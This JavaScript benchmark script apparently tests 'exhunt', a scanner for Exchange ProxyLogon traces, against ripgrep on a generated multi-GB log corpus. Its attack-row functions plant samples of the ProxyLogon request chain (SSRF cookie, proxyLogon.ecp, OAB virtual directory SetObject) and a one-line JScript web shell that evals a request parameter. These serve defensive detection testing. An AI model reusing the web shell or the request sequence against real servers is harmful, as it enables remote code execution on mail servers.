// Issue 2 speed and memory check: `exhunt scan` against `rg -c -F` over the same multi-GB HttpProxy/ECP corpus, in the
// same run, on a warm page cache.
//
//   npm run bench                       (builds, then runs every bench/*.bench.mjs)
//   EXHUNT_BENCH_GB=0.5 node bench/httpproxy.bench.mjs
//
// Corpus: bench/.corpus/httpproxy/ (gitignored), ~EXHUNT_BENCH_GB GB (default 2) of 74-column HttpProxy rows
// (~1.2 KB each, varied values in the artefacts.help layouts) in ~30 hourly files spread over protocol folders, plus
// a few ECP Server files; one real HelseCERT attack row planted per ~50 MB. Reused when its manifest matches.
//
// ripgrep gets the union of the literal needles of every record rule that reads httpproxy / ecp-server / oabgen
// (from dist/engine/registry.js). Some needles are case-insensitive in exhunt (needleCase !== 'exact'), so rg runs
// ONCE with -i over all needles: one pass over the bytes, the way an analyst would grep, and at least as much work
// as exhunt's own prefilter (which searches exact needles as written and only the others case-insensitively).
// Running rg twice (exact, then -i) would read every byte twice and flatter exhunt.
//
// Both tools use every core (rg: its own threads; exhunt: one worker thread per core). Best of 3 runs each.
// Fails (exit 1) when exhunt does not report exactly the planted lines, or when its peak RSS reaches 256 MB.
// Prints the throughput ratio against the issue-2 target (exhunt >= 1/3 of rg) without failing on it: it depends
// on the machine.
import { spawnSync } from 'node:child_process';
import { closeSync, existsSync, mkdirSync, openSync, readFileSync, readSync, rmSync, statSync, writeFileSync, writeSync } from 'node:fs';
import { availableParallelism, tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath, pathToFileURL } from 'node:url';

const REPO = dirname(dirname(fileURLToPath(import.meta.url)));
const CORPUS = join(REPO, 'bench', '.corpus', 'httpproxy');
const GB = Number(process.env.EXHUNT_BENCH_GB ?? '2');
const RUNS = 3;
const RSS_LIMIT_MB = 256;
const TARGET_RATIO = 1 / 3;
const PLANT_EVERY = 50e6;
const CORPUS_VERSION = 3;
const SEED = 20210303;

if (!(GB > 0)) throw new Error(`EXHUNT_BENCH_GB must be a positive number, got ${process.env.EXHUNT_BENCH_GB}`);
const DIST = join(REPO, 'dist');
if (!existsSync(join(DIST, 'cli', 'main.js'))) {
  console.error('dist/ is missing: run `npm run build` first (npm run bench does).');
  process.exit(1);
}

// ---------------------------------------------------------------------------------------------------------------
// Row material

function rng(seed) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  const int = (lo, hi) => lo + Math.floor(next() * (hi - lo + 1));
  const hex = (n) => Array.from({ length: n }, () => '0123456789abcdef'[int(0, 15)]).join('');
  return {
    int,
    hex,
    pick: (l) => l[Math.floor(next() * l.length)],
    guid: () => `${hex(8)}-${hex(4)}-4${hex(3)}-${'89ab'[int(0, 3)]}${hex(3)}-${hex(12)}`,
    alnum: (n) => Array.from({ length: n }, () => 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'[int(0, 61)]).join(''),
  };
}

const HP_FIELDS =
  'DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus';
const COLS = HP_FIELDS.split(',');
const TS0 = '2021-03-03T00:00:00.000Z'; // every row starts with a 24-character timestamp, rewritten per line
const SRV = { name: 'MAIL01', fqdn: 'MAIL01.corp.example.org', domain: 'corp.example.org', db: 'fb7adba2-51f4-47e3-b170-fd39f85aaf35' };

const cell = (v) => (v === undefined ? '' : /[",]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v);
const row = (v) => COLS.map((c) => cell(v[c])).join(',');

/** ~1.2 KB benign rows per protocol, values varied like the artefacts.help samples. */
function benignRows(protocol, r, n) {
  const out = [];
  for (let i = 0; i < n; i++) {
    const user = `user${r.int(1000, 9999)}`;
    const sid = `Sid~S-1-5-21-1234567890-987654321-123456789-${r.int(1100, 9999)}`;
    const ip = r.pick([`10.20.${r.int(0, 9)}.${r.int(2, 254)}`, `192.168.${r.int(10, 90)}.${r.int(2, 254)}`, '127.0.0.1', `fe80::${r.hex(4)}:${r.hex(4)}:${r.hex(4)}:${r.hex(4)}%3`]);
    const total = r.int(3, 900);
    const t = TS0.slice(0, 11);
    const gi = `BeginRequest=${t}00:00:00.000Z;CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;RoutingEntry=DatabaseGuid:${SRV.db}%40${SRV.domain}%40${SRV.domain} Server:${SRV.fqdn}+1942063431@6380703675${r.int(10000000, 99999999)};NewConnection=${ip}&0;BeginGetRequestStream=${t}00:00:00.00${r.int(1, 9)}Z;OnRequestStreamReady=${t}00:00:00.00${r.int(1, 9)}Z;BeginGetResponse=${t}00:00:00.0${r.int(10, 99)}Z;OnResponseReady=${t}00:00:00.${r.int(100, 999)}Z;EndGetResponse=${t}00:00:00.${r.int(100, 999)}Z;ProxyState-Complete=ProxyResponseData;SharedCacheGuard=0;EndRequest=${t}00:00:00.${r.int(100, 999)}Z;`;
    const base = {
      DateTime: TS0,
      RequestId: r.guid(),
      MajorVersion: '15',
      MinorVersion: '1',
      BuildVersion: '2176',
      RevisionVersion: '2',
      Protocol: protocol,
      IsAuthenticated: 'true',
      AuthenticatedUser: `CORP\\${user}`,
      ServerHostName: SRV.name,
      HttpStatus: r.pick(['200', '200', '200', '200', '401', '302']),
      BackEndStatus: '200',
      ProxyAction: 'Proxy',
      TargetServer: SRV.fqdn,
      TargetServerVersion: '15.01.2176.000',
      RoutingType: 'IntraForest',
      RequestBytes: String(r.int(0, 9000)),
      ResponseBytes: String(r.int(80, 90000)),
      HttpPipelineLatency: '0',
      CalculateTargetBackEndLatency: String(r.int(0, 3)),
      TotalGlsLatency: '0',
      TotalAccountForestLatency: '0',
      TotalResourceForestLatency: '0',
      TotalSharedCacheLatency: '0',
      ActivityContextLifeTime: String(total),
      ModuleToHandlerSwitchingLatency: '0',
      ClientReqStreamLatency: '1',
      BackendReqInitLatency: '0',
      BackendReqStreamLatency: '0',
      BackendProcessingLatency: String(Math.max(0, total - 4)),
      BackendRespInitLatency: '0',
      BackendRespStreamLatency: '0',
      ClientRespStreamLatency: '0',
      KerberosAuthHeaderLatency: '0',
      HandlerCompletionLatency: '0',
      RequestHandlerLatency: String(total),
      HandlerToModuleSwitchingLatency: '0',
      ProxyTime: String(total - 3),
      CoreLatency: '3',
      RoutingLatency: '2',
      HttpProxyOverhead: '4',
      TotalRequestTime: String(total),
      GenericInfo: gi,
      DatabaseGuid: `|RoutingDB:${SRV.db}`,
      RoutingStatus: 'CafeV1',
      ClientIpAddress: ip,
    };
    const p = {
      Owa: { UrlHost: 'mail.example.org', UrlStem: '/owa/service.svc', ProtocolAction: r.pick(['GetItem', 'FindItem', 'FindConversation', 'GetConversationItems']), AuthenticationType: 'Negotiate', AnchorMailbox: sid, UserAgent: `Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/${r.int(80, 89)}.0.${r.int(3000, 4400)}.${r.int(10, 190)} Safari/537.36`, Method: 'POST', RoutingHint: 'WindowsIdentity', BackEndCookie: `Database~${SRV.db}~~2021-04-02T0${r.int(0, 9)}:00:00~${SRV.domain}~1`, UrlQuery: `?action=GetItem&app=Mail&n=${r.int(10, 99)}` },
      Ews: { UrlHost: 'localhost', UrlStem: '/ews/', AuthenticationType: 'Negotiate', AuthenticatedUser: `CORP\\HealthMailbox${r.hex(7)}`, AnchorMailbox: sid, UserAgent: 'AMProbe/Local/ClientAccess', Method: 'GET', RoutingHint: 'WindowsIdentity' },
      Mapi: { ClientRequestId: `R:${r.guid()}:${r.int(1, 40)};RT:Execute;CI:${r.guid()}:1;CID:${r.guid()}`, UrlHost: SRV.fqdn, UrlStem: '/mapi/emsmdb/', AuthenticationType: 'Negotiate', Organization: SRV.domain, AnchorMailbox: `MailboxGuid~${r.guid()}`, UserAgent: 'MapiHttpClient', Method: 'POST', RoutingHint: 'MailboxGuidWithDomain', BackEndCookie: `Database~${SRV.db}~~2021-04-02T01:00:04`, UrlQuery: `?mailboxId=${r.guid()}@${SRV.domain}` },
      Eas: { UrlHost: 'mail.example.org', UrlStem: '/Microsoft-Server-ActiveSync/default.eas', AuthenticationType: 'Basic', AnchorMailbox: sid, UserAgent: r.pick(['Outlook-iOS-Android/1.0', 'Apple-iPhone12C1/1802.67']), Method: 'POST', RoutingHint: 'WindowsIdentity-NoDatabase', UrlQuery: `?Cmd=Sync&User=${SRV.domain}%5C${user}&DeviceId=${r.hex(32).toUpperCase()}&DeviceType=Outlook` },
      Autodiscover: { UrlHost: 'autodiscover.example.org', UrlStem: '/autodiscover/autodiscover.xml', AuthenticationType: 'NTLM', AnchorMailbox: sid, UserAgent: 'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.5110; Pro)', Method: 'POST', RoutingHint: 'WindowsIdentity', BackEndCookie: `Database~${SRV.db}~~2021-04-02T18:59:59~${SRV.domain}~1` },
      Ecp: { UrlHost: 'mail.example.org', UrlStem: '/ecp/RulesEditor/InboxRules.svc/GetList', AuthenticationType: 'Negotiate', AnchorMailbox: sid, UserAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/88.0.4324.150 Safari/537.36', Method: 'POST', RoutingHint: 'WindowsIdentity', UrlQuery: `?msExchEcpCanary=${r.alnum(43)}.` },
      // Real PowerShell rows carry a Server~ BackEndCookie: every one passes exhunt's `Server~` prefilter (PL-06).
      PowerShell: { UrlHost: SRV.fqdn.toLowerCase(), UrlStem: '/powershell', ProtocolAction: r.pick(['New-PSSession:Receive', 'Get-Mailbox:Command']), AuthenticationType: 'Kerberos', AuthenticatedUser: `CORP\\HealthMailbox${r.hex(7)}`, AnchorMailbox: 'ServerVersion~Version 15.1 (Build 2176.0)', UserAgent: 'Microsoft WinRM Client', Method: 'POST', RoutingHint: 'ExchClientVer-ServerCookie', BackEndCookie: `Server~${SRV.fqdn.toLowerCase()}~1942063431~2021-03-03T16:11:44`, UrlQuery: `?clientApplication=ActiveMonitor;PSVersion=5.1.14393.4169&sessionID=Version_15.1_(Build_2176.0)=${r.alnum(60)}=` },
    }[protocol];
    out.push(row({ ...base, ...p }));
  }
  return out;
}

/** The real HelseCERT chain rows (client, stem, routing hint, UAs, back-end paths, statuses), padded to 74 columns. */
function attackRows(r) {
  const chain = [
    ['ExchangeServicesClient/0.0.0.0', '/autodiscover/autodiscover.xml?#', '200'],
    ['python-requests/2.25.1', '/mapi/emsmdb/?#', '200'],
    ['python-requests/2.25.1', '/ecp/proxyLogon.ecp?#', '241'],
    ['python-requests/2.25.1', '/ecp/DDI/DDIService.svc/GetObject?msExchEcpCanary=M1xSxxxDuw.&schema=OABVirtualDirectory#', '200'],
    ['python-requests/2.25.1', '/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=OABVirtualDirectory#', '200'],
    ['python-requests/2.25.1', '/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=8BeqxxxWYd1L8.&schema=ResetOABVirtualDirectory#', '200'],
  ];
  return chain.map(([ua, path, status]) =>
    row({
      DateTime: TS0, RequestId: r.guid(), MajorVersion: '15', MinorVersion: '1', BuildVersion: '2176', RevisionVersion: '2', Protocol: 'Ecp', UrlHost: 'mail.example.org', UrlStem: '/ecp/y.js',
      IsAuthenticated: 'false', AnchorMailbox: `ServerInfo~a]@${SRV.fqdn}:444${path}`, UserAgent: ua, ClientIpAddress: '130.255.189.21', ServerHostName: SRV.name, HttpStatus: status, BackEndStatus: status,
      Method: 'POST', ProxyAction: 'Proxy', TargetServer: SRV.fqdn, TargetServerVersion: '15.01.2176.000', RoutingType: 'IntraForest', RoutingHint: 'X-BEResource-Cookie', RequestBytes: '290', ResponseBytes: '1178',
      GenericInfo: `BeginRequest=${TS0};CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1942063431;NewConnection=130.255.189.21&0;SharedCacheGuard=0;EndRequest=${TS0};`, RoutingStatus: 'CafeV1',
    }),
  );
}

const ECP_FIELDS = 'TimeStamp,ServerName,EventId,EventData';
function ecpBag(r, cmd, url) {
  const pair = (k, v) => {
    const p = `S:${k}=${v}`;
    return /[';]/.test(v) ? `'${p.replace(/'/g, "''")}'` : p;
  };
  const data = [pair('TIME', String(r.int(5, 400))), pair('SID', r.guid()), pair('CMD', cmd), 'S:REQID=', pair('URL', url), 'S:REFERRER=', 'S:EX=', pair('ACTID', r.guid()), 'S:RS=0', 'S:BLD=15.1.2176.2', 'S:TNAME=<null>', 'S:TID=', pair('USID', r.guid()), 'S:EDOID=', 'S:ACID='].join(';');
  return [TS0, SRV.name, 'ECP.Request', cell(data)].join(',');
}
function ecpBenign(r, n) {
  const out = [];
  for (let i = 0; i < n; i++) {
    const canary = r.alnum(43) + '.';
    out.push(
      r.int(0, 49) === 0 // an admin reading virtual directories now and then: passes the VirtualDirectory prefilter
        ? ecpBag(r, 'Get-OwaVirtualDirectory.ADPropertiesOnly=$true.Identity=$null', `/ecp/DDI/DDIService.svc/GetList?msExchEcpCanary=${canary}&schema=OWAVirtualDirectory`)
        : ecpBag(r, r.pick(['Get-InboxRule', 'Pipeline.1|Get-MailboxRegionalConfiguration', 'Get-MailboxCalendarConfiguration']), `/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=${canary}`),
    );
  }
  return out;
}
function ecpAttack(r) {
  const script = '<script language="JScript" runat="server">function Page_Load(){eval(Request["klk123456"],"unsafe");}</script>';
  return ecpBag(r, `Set-OabVirtualDirectory.ExternalUrl='http://f/${script}'.Identity='982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'`, '/ecp/DDI/DDIService.svc/SetObject?msExchEcpCanary=M1xSxxxDuw.&schema=OABVirtualDirectory');
}

// ---------------------------------------------------------------------------------------------------------------
// Corpus

const PROTOCOLS = ['Owa', 'Ews', 'Mapi', 'Eas', 'Autodiscover', 'Ecp', 'PowerShell'];
const HP_FILES = 28; // 4 hours x 7 protocol folders
const ECP_FILES = 3;
const ECP_SHARE = 0.04;

function header(version, logType, date, fields) {
  return `#Software: Microsoft Exchange Server\r\n#Version: ${version}\r\n#Log-type: ${logType}\r\n#Date: ${date}\r\n#Fields: ${fields}\r\n`;
}

/** Writes one file of `target` bytes: rows drawn from `pool`, planted rows at chosen byte offsets. */
function writeLogFile(abs, head, pool, target, plants, hourMs, r) {
  mkdirSync(dirname(abs), { recursive: true });
  const fd = openSync(abs, 'w');
  const BUF = 8 * 1024 * 1024;
  const buf = Buffer.allocUnsafe(BUF);
  let used = buf.write(head, 0, 'latin1');
  let written = 0;
  let line = head.split('\r\n').length - 1;
  const planted = [];
  const poolBufs = pool.map((s) => Buffer.from(s + '\r\n', 'latin1'));
  const plantBufs = plants.rows.map((s) => Buffer.from(s + '\r\n', 'latin1'));
  let k = 0;
  const avg = poolBufs.reduce((s, b) => s + b.length, 0) / poolBufs.length;
  const lines = Math.max(1, Math.round(target / avg));
  const step = 3_600_000 / lines;
  while (written + used < target) {
    let src;
    if (plants.state.offset + written + used >= plants.state.next) {
      src = plantBufs[plants.state.count++ % plantBufs.length];
      planted.push(line + 1);
      plants.state.next += plants.every;
    } else src = poolBufs[r.int(0, poolBufs.length - 1)];
    if (used + src.length > BUF) {
      writeSync(fd, buf, 0, used);
      written += used;
      used = 0;
    }
    src.copy(buf, used);
    buf.write(new Date(hourMs + Math.floor(k * step)).toISOString(), used, 'latin1');
    used += src.length;
    line++;
    k++;
  }
  writeSync(fd, buf, 0, used);
  closeSync(fd);
  plants.state.offset += written + used;
  return planted;
}

function corpusParams() {
  return { version: CORPUS_VERSION, gb: GB, seed: SEED, plantEvery: PLANT_EVERY, hpFiles: HP_FILES, ecpFiles: ECP_FILES };
}

function buildCorpus() {
  // Next to the corpus, not in it: a manifest.json inside an evidence folder is read as a collector case manifest.
  const manifestPath = `${CORPUS}.manifest.json`;
  const params = corpusParams();
  if (existsSync(manifestPath)) {
    try {
      const m = JSON.parse(readFileSync(manifestPath, 'utf8'));
      if (JSON.stringify(m.params) === JSON.stringify(params) && m.files.every((f) => existsSync(join(CORPUS, f.rel)) && statSync(join(CORPUS, f.rel)).size === f.size)) {
        console.log(`corpus: reusing ${CORPUS} (${(m.bytes / 1e9).toFixed(2)} GB)`);
        return m;
      }
    } catch {
      // regenerate
    }
  }
  const t0 = performance.now();
  rmSync(CORPUS, { recursive: true, force: true });
  mkdirSync(CORPUS, { recursive: true });
  const r = rng(SEED);
  const total = GB * 1e9;
  const pools = Object.fromEntries(PROTOCOLS.map((p) => [p, benignRows(p, r, 512)]));
  const attacks = attackRows(r);
  const files = [];
  const plantedLines = [];
  // Planted rows go at global byte offsets (one per PLANT_EVERY bytes of corpus, the first a random way in).
  const state = { offset: 0, next: r.int(Math.floor(PLANT_EVERY / 4), PLANT_EVERY), count: 0 };
  const hpTarget = (total * (1 - ECP_SHARE)) / HP_FILES;
  for (let i = 0; i < HP_FILES; i++) {
    const protocol = PROTOCOLS[i % PROTOCOLS.length];
    const hourMs = Date.parse('2021-03-03T04:00:00.000Z') + Math.floor(i / PROTOCOLS.length) * 3_600_000;
    const stamp = new Date(hourMs).toISOString();
    const rel = `Logging/HttpProxy/${protocol}/HttpProxy_${stamp.slice(0, 13).replace(/[-T]/g, '')}-1.LOG`;
    const head = header('15.01.2176.002', 'HttpProxy Logs', stamp, HP_FIELDS);
    const lines = writeLogFile(join(CORPUS, rel), head, pools[protocol], hpTarget, { rows: attacks, every: PLANT_EVERY, state }, hourMs, r);
    files.push({ rel, size: statSync(join(CORPUS, rel)).size });
    for (const l of lines) plantedLines.push(`${rel}:${l}`);
  }
  const ecpPool = ecpBenign(r, 512);
  for (let i = 0; i < ECP_FILES; i++) {
    const dayMs = Date.parse('2021-03-01T00:00:00.000Z') + i * 86_400_000;
    const stamp = new Date(dayMs).toISOString();
    const rel = `Logging/ECP/Server/ECPServer${stamp.slice(0, 10).replace(/-/g, '')}-1.LOG`;
    const head = header('15.0.0.0', 'ECP Server Log', stamp, ECP_FIELDS);
    const lines = writeLogFile(join(CORPUS, rel), head, ecpPool, (total * ECP_SHARE) / ECP_FILES, { rows: [ecpAttack(r)], every: PLANT_EVERY, state }, dayMs, r);
    files.push({ rel, size: statSync(join(CORPUS, rel)).size });
    for (const l of lines) plantedLines.push(`${rel}:${l}`);
  }
  const manifest = { params, bytes: files.reduce((s, f) => s + f.size, 0), files, planted: plantedLines.sort() };
  writeFileSync(manifestPath, JSON.stringify(manifest, null, 1));
  console.log(`corpus: wrote ${files.length} files, ${(manifest.bytes / 1e9).toFixed(2)} GB, ${plantedLines.length} planted attack lines in ${((performance.now() - t0) / 1000).toFixed(1)} s`);
  return manifest;
}

function warm(manifest) {
  const buf = Buffer.allocUnsafe(16 * 1024 * 1024);
  for (const f of manifest.files) {
    const fd = openSync(join(CORPUS, f.rel), 'r');
    while (readSync(fd, buf, 0, buf.length, null) > 0);
    closeSync(fd);
  }
}

// ---------------------------------------------------------------------------------------------------------------
// Runs

async function needles() {
  const { RECORD_RULES } = await import(pathToFileURL(join(DIST, 'engine', 'registry.js')).href);
  const wanted = new Set(['httpproxy', 'ecp-server', 'oabgen']);
  const rules = RECORD_RULES.filter((rule) => rule.formats.some((f) => wanted.has(f)));
  const list = [...new Set(rules.flatMap((rule) => rule.needles))];
  const insensitive = rules.some((rule) => rule.needles.length && rule.needleCase !== 'exact');
  return { list, insensitive, rules: rules.length };
}

function time(cmd, args) {
  const t0 = performance.now();
  const r = spawnSync(cmd, args, { encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 });
  return { ms: performance.now() - t0, r };
}

function runRg(n) {
  const args = ['-c', '-F', '--no-ignore', '--hidden', ...(n.insensitive ? ['-i'] : []), ...n.list.flatMap((x) => ['-e', x]), CORPUS];
  const { ms, r } = time('rg', args);
  if (r.error) throw new Error(`rg could not run (${r.error.message}): install ripgrep (scripts/setup-test-deps.sh)`);
  if (r.status !== 0 && r.status !== 1) throw new Error(`rg failed (${r.status}): ${r.stderr}`);
  const lines = r.stdout.split('\n').filter(Boolean).reduce((s, l) => s + Number(l.slice(l.lastIndexOf(':') + 1)), 0);
  return { ms, lines };
}

function runExhunt(json) {
  const main = join(DIST, 'cli', 'main.js');
  const useTime = existsSync('/usr/bin/time');
  const args = ['scan', CORPUS, '--json', json, '-q', '--jobs', String(availableParallelism())];
  const { ms, r } = useTime ? time('/usr/bin/time', ['-f', 'maxrss_kb=%M', process.execPath, main, ...args]) : time(process.execPath, [join(REPO, 'bench', 'httpproxy.bench.mjs'), '--child', ...args]);
  if (r.status !== 0 && r.status !== 1) throw new Error(`exhunt scan failed (${r.status}): ${r.stderr}`);
  const m = /maxrss_kb=(\d+)/.exec(r.stderr);
  if (!m) throw new Error(`no peak RSS reported: ${r.stderr}`);
  return { ms, rssMb: Number(m[1]) / 1024 };
}

/** Without /usr/bin/time: run the CLI in this child and report its own peak RSS (worker threads included). */
async function child(args) {
  process.argv = [process.argv[0], join(DIST, 'cli', 'main.js'), ...args];
  process.on('exit', () => process.stderr.write(`maxrss_kb=${process.resourceUsage().maxRSS}\n`));
  await import(pathToFileURL(join(DIST, 'cli', 'main.js')).href);
}

function verify(json, manifest) {
  const report = JSON.parse(readFileSync(json, 'utf8'));
  // Exposure findings (the vulnerable build read from #Version) describe the host, not a line: counted apart.
  const lineFindings = report.hosts.flatMap((h) => h.findings.filter((f) => f.kind !== 'exposure'));
  const exposure = report.hosts.reduce((s, h) => s + h.findings.filter((f) => f.kind === 'exposure').length, 0);
  // Several rules may report the same line (the chain rule and the IOC-address rule): compare the set of lines.
  const found = [...new Set(lineFindings.map((f) => `${f.source.path}:${f.source.line}`))].sort();
  const want = manifest.planted;
  const missing = want.filter((x) => !found.includes(x));
  const extra = found.filter((x) => !want.includes(x));
  const skipped = report.hosts.flatMap((h) => h.skipped);
  return { ok: missing.length === 0 && extra.length === 0 && found.length === want.length, found: found.length, findings: lineFindings.length, rules: [...new Set(lineFindings.map((f) => f.rule))].sort(), exposure, missing, extra, skipped };
}

async function main() {
  const t0 = performance.now();
  const manifest = buildCorpus();
  const n = await needles();
  console.log(`needles (${n.rules} rules on httpproxy/ecp-server/oabgen${n.insensitive ? ', rg -i: some rules match in any case' : ''}): ${n.list.join(' | ')}`);
  warm(manifest);
  const json = join(tmpdir(), `exhunt-bench-${process.pid}.json`);
  const ex = [];
  const rg = [];
  let check = null;
  for (let i = 0; i < RUNS; i++) {
    // Interleaved, so both tools see the same machine state.
    ex.push(runExhunt(json));
    if (i === 0) check = verify(json, manifest);
    rg.push(runRg(n));
  }
  rmSync(json, { force: true });
  const mb = manifest.bytes / 1e6;
  const bestEx = Math.min(...ex.map((x) => x.ms));
  const bestRg = Math.min(...rg.map((x) => x.ms));
  const peak = Math.max(...ex.map((x) => x.rssMb));
  const exRate = mb / (bestEx / 1000);
  const rgRate = mb / (bestRg / 1000);
  const ratio = exRate / rgRate;
  const pad = (s, w) => String(s).padEnd(w);
  console.log('');
  console.log(`corpus   ${(manifest.bytes / 1e9).toFixed(2)} GB in ${manifest.files.length} files, ${manifest.planted.length} planted attack lines; ${availableParallelism()} cores; best of ${RUNS}, warm cache`);
  console.log(`${pad('tool', 22)}${pad('best s', 10)}${pad('MB/s', 10)}runs (s)`);
  console.log(`${pad('exhunt scan', 22)}${pad((bestEx / 1000).toFixed(2), 10)}${pad(exRate.toFixed(0), 10)}${ex.map((x) => (x.ms / 1000).toFixed(2)).join(' ')}`);
  console.log(`${pad(`rg -c -F${n.insensitive ? ' -i' : ''}`, 22)}${pad((bestRg / 1000).toFixed(2), 10)}${pad(rgRate.toFixed(0), 10)}${rg.map((x) => (x.ms / 1000).toFixed(2)).join(' ')}   (${rg[0].lines} matching lines)`);
  console.log(`ratio    exhunt/rg = ${ratio.toFixed(2)} (target >= ${TARGET_RATIO.toFixed(2)}: ${ratio >= TARGET_RATIO ? 'met' : 'NOT met'})`);
  console.log(`peak RSS exhunt ${peak.toFixed(0)} MB (limit ${RSS_LIMIT_MB} MB: ${peak < RSS_LIMIT_MB ? 'ok' : 'EXCEEDED'})`);
  console.log(`findings ${check.findings} (${check.rules.join(', ')}) on ${check.found} lines; ${manifest.planted.length} planted: ${check.ok ? 'exactly the planted lines' : 'MISMATCH'} (+${check.exposure} exposure finding(s) from #Version)`);
  if (!check.ok) {
    console.log(`  missing: ${check.missing.slice(0, 10).join(', ')}${check.missing.length > 10 ? ' …' : ''}`);
    console.log(`  extra:   ${check.extra.slice(0, 10).join(', ')}${check.extra.length > 10 ? ' …' : ''}`);
  }
  if (check.skipped.length) console.log(`  skipped: ${JSON.stringify(check.skipped.slice(0, 3))}`);
  console.log(`total bench time ${((performance.now() - t0) / 1000).toFixed(0)} s`);
  if (!check.ok || peak >= RSS_LIMIT_MB) process.exit(1);
}

if (process.argv[2] === '--child') await child(process.argv.slice(3));
else await main();
